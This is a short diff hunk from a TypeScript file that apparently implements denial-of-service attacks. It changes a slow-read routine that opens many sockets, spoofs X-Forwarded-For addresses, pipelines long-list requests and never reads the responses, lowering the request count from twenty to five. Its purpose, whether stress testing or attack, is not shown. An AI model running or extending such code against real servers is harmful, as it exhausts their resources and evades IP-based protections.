@@ -63,9 +63,9 @@ function openSockets({ port }: Target, count: number, begin: (socket: Socket, i:
 const START = ({ host }: Target, start: string): string =>
   `${start} HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: ${newAddress()}\r\nSec-Fetch-Site: same-origin\r\n`;
 
-const EACH = 20;
+const EACH = 5;
 
-/** Requests twenty long lists at once on each connection, and reads nothing. */
+/** Requests five long lists at once on each connection, and reads nothing. */
 export function readNothing(target: Target, count: number): Attack {
   const { attack } = openSockets(target, count, (socket, i) => {
     socket.removeAllListeners('data').pause();
